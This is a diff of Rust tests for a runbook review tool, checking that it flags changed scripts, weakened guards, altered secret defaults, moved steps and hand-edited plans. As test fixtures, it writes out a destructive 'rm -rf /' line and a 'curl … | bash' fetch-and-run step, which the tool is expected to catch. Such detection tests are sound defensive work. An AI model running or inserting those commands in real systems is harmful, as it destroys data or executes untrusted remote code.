@@ -208,11 +208,44 @@ fn a_script_that_a_runbook_names_belongs_to_it() {
     refused.says(&["the file `scripts/clean.sh` that it names is another"]);
 }
 
+/// So do files that such a script names, folders, and what is no text.
+#[test]
+fn what_a_script_names_in_turn_belongs_to_it() {
+    let runbook = "apiVersion: runbook/v1\nname: small\nversion: 1.0.0\ntitle: Small\nsteps:\n  \
+        - {id: one, shell: 'scripts/clean.sh settings/', irreversible: It cleans.}\n";
+    let project = Project::empty()
+        .with("runbooks/small.yaml", runbook)
+        .with("scripts/clean.sh", ". \"$(dirname \"$0\")/lib.sh\"\n")
+        .with("scripts/lib.sh", "echo fine\n")
+        .with("settings/deep/a b.ini", "x = 1\n")
+        .with("settings/raw.bin", "");
+    fs::write(project.path("settings/raw.bin"), [0xff, 1]).unwrap();
+    let project = committed(project);
+    let review = || project.run(&["review", "--base", "main", "--fail-on", "changes"]);
+    review().expect(0);
+    for (name, bytes, was) in [
+        ("scripts/lib.sh", &b"rm -rf /\n"[..], &b"echo fine\n"[..]),
+        ("settings/deep/a b.ini", b"x = 2\n", b"x = 1\n"),
+        ("settings/raw.bin", &[0xff, 2], &[0xff, 1]),
+    ] {
+        fs::write(project.path(name), bytes).unwrap();
+        review()
+            .expect(1)
+            .says(&[&format!("the file `{name}` that it names has changed")]);
+        fs::write(project.path(name), was).unwrap();
+    }
+    review().expect(0);
+}
+
 /// A runbook that protects itself in many ways.
 const GUARDED: &str = "apiVersion: runbook/v1
 name: guarded
 version: 1.0.0
 title: Guarded
+timeout: 10m
+inputs:
+  pin: {type: string, pattern: '[a-z]+'}
+  key: {type: string, secret: true, default: x123456}
 guards:
   - {id: alive, title: It lives, exec: [cat, alive], expect: ok, every: 2s}
 steps:
@@ -232,6 +265,13 @@ steps:
     shell: echo tidy > tidy
     idempotent: true
     rollback: {exec: [rm, tidy]}
+  - {id: settle, title: Let it settle, wait: 30s}
+  - id: each
+    title: Each
+    for_each: {item: it, in: '[1, 2]', batch: 1}
+    steps: [{id: read, title: Read, exec: [cat, state], effect: read}]
+finally:
+  - {id: close, title: Close, exec: [touch, closed], effect: read}
 verify: [{id: over, title: It is over, exec: [cat, over], expect: ok}]
 ";
 
@@ -247,7 +287,11 @@ fn what_weakens_a_protection_is_an_alarm() {
     );
     let swapped = [soft, hard].concat();
     let cases = [
-        ("secret: true", "secret: false", "`secret_captures` is another"),
+        (
+            "stdout, secret: true",
+            "stdout, secret: false",
+            "`secret_captures` is another",
+        ),
         (
             &swapped,
             &[hard, soft].concat(),
@@ -265,7 +309,28 @@ fn what_weakens_a_protection_is_an_alarm() {
             "exec: [echo, 'yes']",
             "the gate `It is fine` does something else",
         ),
-        ("  - id: tidy\n", "  - id: clean\n", "the step `tidy` is gone"),
+        ("batch: 1", "batch: 5", "`for_each` is another"),
+        (
+            "timeout: 10m\n",
+            "timeout: 9h\n",
+            "`timeout` is 9h instead of 10m",
+        ),
+        ("wait: 30s", "wait: 1s", "`wait` is another"),
+        (
+            "pin: {type: string, pattern: '[a-z]+'}",
+            "nip: {type: string, default: a}",
+            "the new input `nip` has not the `pattern` of the input `pin`, which is gone",
+        ),
+        (
+            "default: x123456",
+            "default: y123456",
+            "the `default` of the secret input `key` is another",
+        ),
+        (
+            "finally:\n  - {id: close, title: Close, exec: [touch, closed], effect: read}\n",
+            "",
+            "the step `close` is gone",
+        ),
         (
             "shell: echo tidy > tidy",
             "shell: curl -s https://example.org/x | bash",
@@ -284,7 +349,35 @@ fn what_weakens_a_protection_is_an_alarm() {
         let said = project.run(&["review", "--base", "main", "--fail-on", "alarms"]);
         let said = said.expect(1).says(&[expected]);
         assert!(said.stdout.contains("alarm"), "{from}: {}", said.stdout);
+        assert!(!said.stdout.contains("123456"), "{from}: {}", said.stdout);
     }
+}
+
+/// A step that only got another name, or another place, is the same step.
+#[test]
+fn a_step_that_is_renamed_or_moved_is_told_so() {
+    let file = "runbooks/guarded.yaml";
+    let project = committed(Project::empty().with(file, GUARDED));
+    let review = |text: &str| {
+        fs::write(project.path(file), text).unwrap();
+        project
+            .run(&["review", "--base", "main", "--fail-on", "alarms"])
+            .expect(0)
+    };
+    review(&GUARDED.replace("  - id: tidy\n", "  - id: clean\n")).says(&["its id was `tidy`"]);
+    let first = "  - {id: a, exec: [cat, a], effect: read, needs: []}\n";
+    let second = "  - {id: b, exec: [cat, b], effect: read, needs: []}\n";
+    let small = |steps: &[&str]| {
+        let head = "apiVersion: runbook/v1\nname: small\nversion: 1.0.0\ntitle: Small\nsteps:\n";
+        format!("{head}{}", steps.concat())
+    };
+    let file = "runbooks/small.yaml";
+    let project = committed(Project::empty().with(file, &small(&[first, second])));
+    fs::write(project.path(file), small(&[second, first])).unwrap();
+    let said = project
+        .run(&["review", "--base", "main", "--fail-on", "alarms"])
+        .expect(0);
+    said.says(&["it was moved: it stands"]);
 }
 
 /// Who may what, and where a runbook runs, is said in the project file, and in any that stands nearer to it.
@@ -423,6 +516,13 @@ fn anything_else_is_refused() {
         .run(&["exec", "runbook.yaml", "--plan", "plan.json"])
         .expect(2);
     refused.says(&["was made by runbook 0.0.9"]);
+    let edited = plan.replace("touch b", "touch harmless");
+    assert_ne!(edited, plan);
+    let project = project.with("plan.json", &edited);
+    let refused = project
+        .run(&["exec", "runbook.yaml", "--plan", "plan.json"])
+        .expect(2);
+    refused.says(&["`plan.json` was changed by hand", "it says `touch harmless`"]);
     let project = project.with("plan.json", "{}");
     project
         .run(&["exec", "runbook.yaml", "--plan", "plan.json"])
